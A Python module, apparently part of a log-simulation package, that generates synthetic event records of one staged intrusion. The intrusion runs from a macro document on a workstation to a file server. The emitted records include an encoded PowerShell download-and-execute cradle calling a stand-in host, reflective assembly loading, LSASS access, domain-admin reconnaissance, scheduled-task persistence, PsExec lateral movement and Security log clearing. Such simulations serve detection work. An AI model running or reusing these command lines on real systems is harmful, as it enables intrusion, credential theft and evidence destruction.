"""The one attack of the week, on Thursday: from a document on the workstation to the file server."""

from __future__ import annotations

from base64 import b64encode
from datetime import datetime, timedelta

from demo_week.files import PROGRAMS
from demo_week.host import Host
from demo_week.logs import Process, Session

_OUTSIDE, _OUTSIDE_NAME = "203.0.113.66", "files.supplies.example"
_STAGE = (
    f"Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://{_OUTSIDE_NAME}/catalogue.txt).Content"
)
_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4",
    "C:\\Windows\\System32\\KERNELBASE.dll+2c0fe",
    "UNKNOWN(000001F3A80E5D1C)",
)
_TASK = "\\Office Document Cache Update"


def attack(day: datetime, station: Host, server: Host, user: Session) -> None:
    """All of it, told as it happened."""
    with station.log.attack():
        shell = _document(day.replace(hour=10, minute=41, second=7), station, user)
        _credentials(day.replace(hour=10, minute=47, second=31), station, shell)
        _look_around(day.replace(hour=10, minute=52, second=3), station, shell)
        _persist(day.replace(hour=10, minute=58, second=44), station, shell)
        _move(day.replace(hour=11, minute=8, second=16), station, server, shell)


def _document(at: datetime, host: Host, user: Session) -> Process:
    mail = host.known("outlook", user)
    path = f"C:\\Users\\{user.user}\\Downloads\\Offer-2026-1187.docm"
    host.write(at, mail, path)
    word = host.start(
        at + timedelta(seconds=9), "word", mail, user, f'"{PROGRAMS["word"]}" /n "{path}" /o ""'
    )
    host.load(at + timedelta(seconds=12), word, "vba")
    encoded = b64encode(_STAGE.encode("utf-16-le")).decode()
    line = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
    at += timedelta(seconds=45)
    cmd = host.start(at, "cmd", word, user, f"cmd.exe /c start /b {line}")
    shell = host.start(at + timedelta(milliseconds=310), "powershell", cmd, user, line)
    host.load(at + timedelta(seconds=1), shell, "clr", "automation", "amsi")
    host.script(at + timedelta(seconds=2), shell, _STAGE)
    host.ask(at + timedelta(seconds=2, milliseconds=400), shell, _OUTSIDE_NAME, _OUTSIDE)
    host.connect(at + timedelta(seconds=2, milliseconds=600), shell, _OUTSIDE, 443, _OUTSIDE_NAME)
    host.pipeline(at + timedelta(seconds=3), shell, "Invoke-WebRequest")
    host.pipeline(at + timedelta(seconds=3, milliseconds=200), shell, "Invoke-Expression")
    host.script(
        at + timedelta(seconds=5),
        shell,
        "$bytes = [Convert]::FromBase64String($page.Substring(64))\r\n"
        "[Reflection.Assembly]::Load($bytes).EntryPoint.Invoke($null, $null)",
    )
    return shell


def _credentials(at: datetime, host: Host, shell: Process) -> None:
    host.load(at, shell, "scard", "samlib", "vaultcli", "hid", "cryptdll", apart_ms=130)
    host.open_process(at + timedelta(milliseconds=940), shell, host.running["lsass"], "0x1010", _TRACE)


def _look_around(at: datetime, host: Host, shell: Process) -> None:
    user = shell.session
    host.start(at, "whoami", shell, user, '"C:\\Windows\\system32\\whoami.exe" /all')
    line = 'group "Domain Admins" /domain'
    net = host.start(at + timedelta(seconds=21), "net", shell, user, f'"{PROGRAMS["net"]}" {line}')
    host.start(
        at + timedelta(seconds=21, milliseconds=90), "net1", net, user, f"C:\\Windows\\system32\\net1 {line}"
    )
    host.ask(at + timedelta(seconds=70), shell, "srv-files.corp.example", "192.0.2.20")


def _persist(at: datetime, host: Host, shell: Process) -> None:
    user = shell.session
    what = "powershell.exe -NoProfile -WindowStyle Hidden -File C:\\Users\\Public\\Libraries\\cache.ps1"
    host.write(at - timedelta(seconds=6), shell, "C:\\Users\\Public\\Libraries\\cache.ps1")
    line = f'"{PROGRAMS["schtasks"]}" /create /tn "{_TASK}" /sc hourly /tr "{what}"'
    host.start(at, "schtasks", shell, user, line)
    program, _, arguments = what.partition(" ")
    run = f"<Exec><Command>{program}</Command><Arguments>{arguments}</Arguments></Exec>"
    task = f'<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"><Actions>{run}</Actions></Task>'
    host.security(
        at + timedelta(milliseconds=400),
        4698,
        user,
        {"TaskName": _TASK, "TaskContent": task, "ClientProcessId": "8044"},
    )
    host.other(
        at + timedelta(milliseconds=450),
        "tasks",
        106,
        {"#attributes": {"Name": "TaskRegisteredEvent"}, "TaskName": _TASK, "UserContext": user.account},
    )


def _move(at: datetime, station: Host, server: Host, shell: Process) -> None:
    station.connect(at, shell, server.address, 445, server.computer)
    admin = server.session("adm-files", 1151, integrity="High")
    server.logon(at + timedelta(milliseconds=200), admin, 3, address=station.address)
    share = {"ObjectType": "File", "IpAddress": station.address, "IpPort": "52811"}
    files = {"ShareName": "\\\\*\\ADMIN$", "ShareLocalPath": "\\??\\C:\\Windows"}
    server.security(
        at + timedelta(milliseconds=500),
        5140,
        admin,
        {**share, **files, "AccessMask": "0x1", "AccessList": "%%4416"},
    )
    server.security(
        at + timedelta(milliseconds=900),
        5145,
        admin,
        {**share, **files, "RelativeTargetName": "PSEXESVC.exe", "AccessMask": "0x2", "AccessList": "%%4417"},
    )
    server.write(at + timedelta(seconds=1), server.known("System", server.system), PROGRAMS["psexesvc"])
    _install(at + timedelta(seconds=2), server, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", admin)
    tool = server.start(
        at + timedelta(seconds=3), "psexesvc", server.running["services"], server.system, PROGRAMS["psexesvc"]
    )
    for number, end in enumerate(("stdin", "stdout", "stderr")):
        server.pipe(
            at + timedelta(seconds=3, milliseconds=300 + number), tool, f"\\PSEXESVC-WS-17-8044-{end}"
        )
    remote = server.start(at + timedelta(seconds=4), "cmd", tool, server.system, '"cmd.exe"')
    server.start(at + timedelta(seconds=31), "whoami", remote, server.system, "whoami  /all")
    at += timedelta(minutes=11, seconds=22)
    line = "%COMSPEC% /c start /b C:\\Windows\\Temp\\cache.cmd"
    _install(at, server, "DocumentCache", line, admin)
    run = server.start(
        at + timedelta(seconds=1),
        "cmd",
        server.running["services"],
        server.system,
        "C:\\Windows\\system32\\cmd.exe /c start /b C:\\Windows\\Temp\\cache.cmd",
    )
    server.connect(at + timedelta(seconds=3), run, _OUTSIDE, 443, _OUTSIDE_NAME)
    at += timedelta(minutes=23, seconds=5)
    server.start(at, "wevtutil", remote, server.system, "wevtutil  cl Security")
    server.log_cleared(at + timedelta(milliseconds=200), server.system)


def _install(at: datetime, host: Host, name: str, path: str, by: Session) -> None:
    data = {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service"}
    host.other(
        at, "services", 7045, data | {"StartType": "demand start", "AccountName": "LocalSystem"}, user=by.sid
    )
    key = f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath"
    host.set_value(at + timedelta(milliseconds=20), host.running["services"], key, path)
